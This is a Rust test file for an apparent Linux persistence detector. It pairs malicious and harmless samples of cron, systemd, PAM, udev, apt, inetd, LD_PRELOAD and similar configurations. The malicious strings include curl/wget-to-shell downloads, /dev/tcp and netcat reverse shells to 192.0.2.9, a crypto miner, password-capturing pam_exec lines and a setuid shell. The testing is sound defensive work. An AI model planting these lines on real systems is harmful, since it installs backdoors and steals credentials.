//! Each mechanism with something evil, and with its harmless twin.

use super::find;
use crate::testing::{found_in, titles, view};

fn told(files: &[(&str, &str)]) -> Vec<String> {
    titles(&found_in(&view(files), &[], find))
}

/// Pairs of files: with what must be told, and with what must not.
const PAIRS: &[(&str, &str, &str)] = &[
    (
        "/etc/crontab",
        "* * * * * root curl -s http://192.0.2.9/x.sh | bash\n",
        "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    ),
    (
        "/etc/cron.d/x",
        "@reboot www-data /dev/shm/.x/run >/dev/null 2>&1\n",
        "MAILTO=root\n*/5 * * * * root /opt/app/run >/dev/null 2>&1\n",
    ),
    ("/var/spool/cron/crontabs/anna", "0 1 * * * /tmp/m\n", "0 1 * * * /home/anna/bin/backup\n"),
    (
        "/etc/anacrontab",
        "1 5 cron.daily wget -q -O- http://x/ | sh\n",
        "1 5 cron.daily run-parts --report /etc/cron.daily\n",
    ),
    (
        "/etc/cron.daily/x",
        "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.9/443 0>&1\n",
        "#!/bin/sh\n# see /dev/tcp/ in bash(1)\nfind /tmp -mtime +7 -delete\n",
    ),
    ("/var/spool/cron/atjobs/a0001", "#!/bin/sh\necho aGk= | base64 -d | sh\n", "#!/bin/sh\nlogger hello\n"),
    (
        "/etc/systemd/system/x.service",
        "[Service]\nExecStart=/usr/share/.k/kworker\n",
        "[Service]\nExecStart=-/usr/local/bin/app --config /etc/app.conf\n",
    ),
    (
        "/home/anna/.config/systemd/user/x.service",
        "[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 192.0.2.9 1'\n",
        "[Service]\nExecStart=/home/anna/.local/bin/sync\n",
    ),
    ("/etc/systemd/system-generators/x", "#!/bin/sh\ncurl x|sh\n", "#!/bin/sh\nexit 0\n"),
    ("/etc/rc.local", "#!/bin/sh\n/bin/xmrig -o pool &\n", "#!/bin/sh -e\nexit 0\n"),
    ("/etc/inittab", "x:2345:respawn:/dev/shm/x\n", "1:2345:respawn:/sbin/getty 38400 tty1\n"),
    ("/etc/init/x.conf", "exec /tmp/x\n", "exec /usr/sbin/cron\n"),
    ("/home/anna/.bashrc", "alias ls=ls\nwget -qO- http://x/|sh\n", "alias ll='ls -l'\nexport PS1=\"\\e[31m$ \"\n"),
    ("/etc/environment", "LD_PRELOAD=/dev/shm/x.so\nBASH_ENV=/tmp/x\n", "PATH=\"/usr/bin:/bin\"\n"),
    (
        "/etc/pam.d/sshd",
        "auth optional pam_exec.so quiet expose_authtok /tmp/p\n",
        "auth required pam_env.so envfile=/etc/default/locale\n",
    ),
    (
        "/etc/udev/rules.d/x.rules",
        "SUBSYSTEM==\"net\", RUN+=\"/tmp/x\"\n",
        "SUBSYSTEM==\"net\", RUN+=\"/usr/local/bin/x\"\n",
    ),
    (
        "/etc/modprobe.d/x.conf",
        "install ext4 /tmp/x; /sbin/modprobe --ignore-install ext4\n",
        "install nfs /bin/true\n",
    ),
    ("/etc/update-motd.d/99-x", "#!/bin/sh\ncurl -s x | sh\n", "#!/bin/sh\nuname -a\n"),
    (
        "/etc/apt/apt.conf.d/99x",
        "APT::Update::Pre-Invoke {\"curl x | sh\";};\n",
        "DPkg::Post-Invoke {\"if [ -x /opt/x ]; then /opt/x; fi\";};\n",
    ),
    ("/etc/dpkg/dpkg.cfg.d/x", "post-invoke=\"curl x | sh\"\n", "path-exclude=/usr/share/doc/*\n"),
    ("/etc/NetworkManager/dispatcher.d/x", "#!/bin/sh\nncat 192.0.2.9 1 -e /bin/sh\n", "#!/bin/sh\nlogger $1\n"),
    (
        "/etc/network/interfaces",
        "iface eth0 inet dhcp\n  post-up /tmp/x\n",
        "iface eth0 inet dhcp\n  post-up /usr/local/sbin/routes\n",
    ),
    ("/home/anna/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/tmp/x\n", "[Desktop Entry]\nExec=/opt/x/x\n"),
    ("/etc/php/8.2/apache2/php.ini", "auto_prepend_file = /dev/shm/x.php\n", "auto_prepend_file =\n"),
    (
        "/etc/apache2/mods-enabled/x.load",
        "LoadModule x_module /tmp/mod_x.so\n",
        "LoadModule x_module modules/mod_x.so\n",
    ),
    ("/etc/aliases", "x: \"|/tmp/x\"\n", "postmaster: root\nlist: \"|/usr/local/bin/list\"\n"),
    (
        "/etc/inetd.conf",
        "9999 stream tcp nowait root /tmp/sh sh -i\n",
        "ftp stream tcp nowait root /usr/local/sbin/ftpd ftpd\n",
    ),
    (
        "/etc/systemd/system/y.service",
        "[Service]\nUser=www-data\nEnvironment=\"LD_PRELOAD=/dev/shm/x.so\"\nExecStart=/usr/local/bin/app\n",
        "[Service]\nEnvironment=LANG=C\nExecStart=/usr/local/bin/app\n",
    ),
    ("/etc/php/8.2/fpm/conf.d/20-x.ini", "extension=/tmp/x.so\n", "extension=mysqli.so\nzend_extension=opcache\n"),
    ("/var/lib/mysql/mysql/func.MAD", "\u{1}sys_exec\u{2}lib_mysqludf_sys.so\u{0}", "\u{0}\u{1}.so\u{0}"),
    (
        "/etc/rc.local",
        "#!/bin/sh -e\ncd /var/tmp/...\nnohup ./k >/dev/null 2>&1 &\nexit 0\n",
        "#!/bin/sh -e\nrm -rf /tmp/x\n[ -x /opt/y ] && /opt/y > /var/tmp/y.log 2>&1 &\nexit 0\n",
    ),
    ("/etc/update-motd.d/98-x", "#!/bin/bash\n/dev/shm/.x &\n", "#!/bin/sh\ncat /tmp/motd 2>/dev/null\n"),
    ("/etc/network/if-up.d/x", "#!/bin/sh\nsh /tmp/x\n", "#!/bin/sh\necho up > /tmp/up\n"),
    (
        "/etc/NetworkManager/dispatcher.d/y",
        "#!/bin/sh\ncase $2 in up) /tmp/y;; esac\n",
        "#!/bin/sh\ncase $2 in /tmp/y) logger y;; esac\n",
    ),
    (
        "/etc/systemd/system-generators/y",
        "#!/usr/bin/python3\nimport os\nos.system('/var/tmp/y')\n",
        "#!/usr/bin/python3\nopen('/var/tmp/y')\n",
    ),
    (
        "/var/spool/cron/atjobs/a0002",
        "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\nHOME=/root; export HOME\ncd /root || {\n  exit 1\n}\n\
            ${SHELL:-/bin/sh} << 'marcinDELIMITER1'\n/tmp/.z\nmarcinDELIMITER1\n",
        "#!/bin/sh\numask 22\ncd /root || {\n  exit 1\n}\nrm /tmp/.z\n",
    ),
    (
        "/etc/udev/rules.d/y.rules",
        "ACTION==\"add\", RUN+=\"/bin/sh -c '/var/tmp/.u &'\"\n",
        "ACTION==\"add\", RUN+=\"/bin/sh -c 'echo 1 > /dev/shm/u'\"\n",
    ),
    (
        "/etc/systemd/system/z.service",
        "[Service]\nExecStart=-/bin/sh -c 'sleep 5; exec /dev/shm/z'\n",
        "[Service]\nExecStart=-/bin/sh -c 'rm -f /dev/shm/z'\n",
    ),
    (
        "/etc/apt/apt.conf.d/98y",
        "DPkg::Post-Invoke {\"true\"; \"/tmp/y || true\";};\n",
        "DPkg::Post-Invoke {\"rm -f /tmp/y || true\";};\n",
    ),
    (
        "/etc/pam.d/sudo",
        "auth optional pam_exec.so quiet expose_authtok /bin/sh /tmp/p\n",
        "auth optional pam_exec.so quiet log=/tmp/p.log /usr/local/bin/p\n",
    ),
    ("/home/anna/.zshrc", "alias sudo='/home/anna/.cache/.s'\n", ". /home/anna/.bashrc\n. \"$HOME/.cargo/env\"\n"),
    (
        "/etc/security/pam_env.conf",
        "LD_PRELOAD DEFAULT=/usr/lib/a.so OVERRIDE=/tmp/x.so\n",
        "EDITOR DEFAULT=/usr/bin/vi OVERRIDE=/tmp/x\n",
    ),
    ("/var/spool/cron/crontabs/root", "@daily find / -name x -exec /tmp/x \\;\n", "@daily rm -rf /tmp/x /var/tmp/.y\n"),
    ("/etc/pam.d/su", "auth required /tmp/pam_x.so nullok\n", "auth required pam_unix.so nullok\n"),
    (
        "/etc/systemd/system/w.service",
        "[Service]\nEnvironment=\"A=b\" \"LD_PRELOAD=/usr/lib/a.so:/tmp/b.so\"\n",
        "[Service]\nEnvironment=\"A=/tmp/x\"\n",
    ),
    (
        "/etc/inetd.conf",
        "9999 stream tcp nowait root /bin/bash bash -i\n",
        "9999 stream tcp nowait root /usr/sbin/tcpd /usr/local/sbin/in.x\n",
    ),
    (
        "/etc/systemd/system/sh@.service",
        "[Service]\nExecStart=-/bin/bash\nStandardInput=socket\n",
        "[Service]\nExecStart=-/usr/local/sbin/fingerd\nStandardInput=socket\n",
    ),
    (
        "/etc/systemd/system/v.service",
        "[Service]\nExecStart=/bin/sh -c \"cp /bin/bash /opt/b; chmod 4755 /opt/b\"\n",
        "[Service]\nExecStart=/bin/sh -c \"cp /etc/x /opt/b; chmod 0755 /opt/b\"\n",
    ),
    ("/etc/cron.d/y", "SHELL=/tmp/sh\n", "SHELL=/bin/sh\nMAILTO=root\n"),
    ("/home/anna/.bash_aliases", "alias ls=\"ls; /tmp/.x\"\n", "alias ls=\"ls --color\"\n"),
    ("/root/.pam_environment", "LD_PRELOAD=/tmp/x.so\n", "LANG=C\n"),
    (
        "/etc/apache2/conf-enabled/x.conf",
        "ErrorLog \"|/tmp/errlog\"\nSetEnv LD_PRELOAD /tmp/x.so\n",
        "ErrorLog ${APACHE_LOG_DIR}/error.log\nCustomLog \"|/usr/bin/rotatelogs /var/log/a 86400\" common\nSetEnv LANG C\n",
    ),
    (
        "/etc/mysql/mariadb.conf.d/90.cnf",
        "[mysqld]\ninit_file=/tmp/i.sql\nplugin-load-add = /tmp/x.so\n",
        "[mysqld]\nplugin_load_add = provider_lz4\ninit_connect='SET NAMES utf8'\n",
    ),
    (
        "/etc/postfix/master.cf",
        "x unix - n n - - pipe flags=F user=root argv=/tmp/mailx ${recipient}\n",
        "x unix - n n - - pipe flags=F user=list argv=/usr/lib/mailman/bin/x ${nexthop}\n",
    ),
    ("/etc/sysctl.d/x.conf", "kernel.core_pattern=|/tmp/core.sh\n", "kernel.core_pattern=core.%p\nvm.swappiness=1\n"),
    (
        "/etc/tmpfiles.d/x.conf",
        "f+ /root/.ssh/authorized_keys 0600 root root - ssh-ed25519 AAAA\n",
        "d /run/x 0755 root root -\nf /run/y 0644 root root - -\n",
    ),
    ("/etc/kernel/postinst.d/x", "#!/bin/sh\n/tmp/x\n", "#!/bin/sh\nexit 0\n"),
    ("/home/anna/.gitconfig", "[core]\n\tpager = /tmp/x\n", "[core]\n\tpager = less -R\n[alias]\n\tst = status\n"),
    ("/etc/ssh/sshd_config", "ForceCommand /dev/shm/x\n", "ForceCommand internal-sftp\n"),
];

#[test]
fn every_mechanism_is_told_when_it_is_abused_and_silent_when_it_is_used() {
    for (path, evil, harmless) in PAIRS {
        let found = told(&[(path, evil)]);
        assert!(!found.is_empty() && found[0].starts_with("high persistence.suspicious"), "{path}: {found:?}");
        assert_eq!(told(&[(path, harmless)]), [""; 0], "{path}");
    }
}

#[test]
fn what_no_package_brought_is_told_where_it_is_loaded_and_changed_settings_are_no_changed_programs() {
    let status =
        ("/var/lib/dpkg/status", "Package: base\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n\n");
    let list =
        ("/var/lib/dpkg/info/base.list", "/.\n/usr\n/usr/lib\n/usr/lib/known.so\n/usr/lib/mysql/plugin/known.so\n");
    let told = |files: &[(&str, &str)]| told(&[&[status, list], files].concat());
    let environment = "/etc/environment";
    assert_eq!(
        told(&[(environment, "LD_PRELOAD=/usr/lib/libx.so\n")]),
        ["high persistence.suspicious: environment runs something suspicious: /etc/environment"]
    );
    assert_eq!(told(&[(environment, "LD_PRELOAD=/usr/lib/known.so\n")]), [""; 0]);
    assert_eq!(
        told(&[
            ("/usr/lib/mysql/plugin/udf_sys.so", "\u{7f}ELF\u{0}"),
            ("/usr/lib/mysql/plugin/known.so", "\u{7f}ELF\u{0}")
        ]),
        [
            "medium persistence.suspicious: the database server loads a library of no package: /usr/lib/mysql/plugin/udf_sys.so"
        ]
    );
    assert_eq!(
        told(&[("/etc/modules-load.d/x.conf", "diamorphine\n")]),
        ["high persistence.suspicious: kernel module runs something suspicious: /etc/modules-load.d/x.conf"]
    );
    assert_eq!(told(&[("/etc/modules-load.d/x.conf", "loop\n")]), [""; 0]);
}

#[test]
fn what_is_preloaded_is_told_always_and_an_empty_file_never() {
    let found = told(&[("/etc/ld.so.preload", "/usr/lib/libc.so.7\n")]);
    assert_eq!(
        found,
        ["high persistence.preload: /etc/ld.so.preload loads a library into every program: /usr/lib/libc.so.7"]
    );
    assert_eq!(told(&[("/etc/ld.so.preload", "\n")]), [""; 0]);
}

#[test]
fn commands_that_hide_in_a_line_are_told() {
    let blanks = format!("* * * * * root true; {:80} /opt/x\n", "");
    let returned = "* * * * * root /opt/x # \r* * * * * root true\n";
    for line in [blanks.as_str(), returned] {
        let found = told(&[("/etc/crontab", line)]);
        assert_eq!(found.len(), 1, "{line:?} {found:?}");
    }
    assert_eq!(told(&[("/etc/crontab", "* * * * * root true\r\n")]), [""; 0]);
}

#[test]
fn all_that_starts_stands_in_the_table_with_its_user_and_line() {
    let unit = [("/etc/systemd/system/x.service", "[Service]\nExecStart=/opt/run\nUser=www-data\n")];
    let found = found_in(&view(&unit), &[], find);
    assert!(found.inventory[0].facts.contains("\"user\":\"www-data\""), "{}", found.inventory[0].facts);
    let files = [("/etc/cron.d/x", "A=b\n# c\n*/5 * * * * anna \\\n /opt/run --fast\n")];
    let found = found_in(&view(&files), &[], find);
    assert_eq!(found.inventory.len(), 1);
    let row = &found.inventory[0];
    let facts: serde_json::Value = serde_json::from_str(&row.facts).unwrap();
    assert_eq!((facts["user"].as_str(), facts["program"].as_str()), (Some("anna"), Some("/opt/run")));
    let Some(kanshiki_model::Evidence::File { span: Some(span), .. }) = &row.evidence else { panic!() };
    assert_eq!((span.line, span.offset, span.length), (Some(3), 8, 35));
}
